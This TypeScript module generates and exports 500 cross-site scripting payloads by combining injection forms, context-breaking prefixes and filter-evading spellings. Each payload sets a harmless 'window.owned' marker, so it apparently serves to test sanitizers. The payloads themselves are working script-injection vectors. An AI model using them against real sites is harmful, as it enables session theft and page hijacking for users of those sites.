/** What a payload does where it runs. */
const OWN = "window.owned=1";

/** Ways for a text to become a script in a page that does not treat it as a text. */
const FORMS: readonly ((code: string) => string)[] = [
	(code) => `<script>${code}</script>`,
	(code) => `<img src=x onerror=${code}>`,
	(code) => `<svg onload=${code}>`,
	(code) => `<svg><script>${code}</script></svg>`,
	(code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
	(code) => `<body onload=${code}>`,
	(code) => `<details open ontoggle=${code}>`,
	(code) => `<input autofocus onfocus=${code}>`,
	(code) => `<a href="javascript:${code}">x</a>`,
	(code) => `javascript:${code}`,
	(code) => `data:text/html,<script>${code}</script>`,
	(code) => `<style>@import'javascript:${code}'</style>`,
	(code) => `<link rel=stylesheet href="javascript:${code}">`,
	(code) => `<math><mtext></p><img src=x onerror=${code}>`,
	(code) => `<template><img src=x onerror=${code}></template>`,
	(code) => `<object data="javascript:${code}">`,
	(code) => `<form action="javascript:${code}"><button autofocus>`,
	(code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
	(code) => `<base href="javascript:${code}//">`,
	(code) => `{{constructor.constructor('${code}')()}}`,
	(code) => `\${${code}}`,
	(code) => `<!--><img src=x onerror=${code}>-->`,
	(code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
	(code) => `<x onpointerenter=${code} style="position:fixed;inset:0">`,
	(code) => `\u202e<img src=x onerror=${code}>`,
];

/** Ends of what the text may stand in: an attribute, a text of a script, a comment, a title. */
const BREAKS: readonly string[] = ["", `">`, `'>`, `</title>`, `</script>`, `</textarea>`, `-->`, `\\"));`, `';`, "`;"];

/** Spellings that filters miss. */
const SPELLINGS: readonly ((text: string) => string)[] = [
	(text) => text,
	(text) => text.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
];

/** 500 texts, each of which sets `window.owned` where it runs. */
export const PAYLOADS: readonly string[] = SPELLINGS.flatMap((spell) =>
	BREAKS.flatMap((end) => FORMS.map((form) => end + spell(form(OWN)))),
);
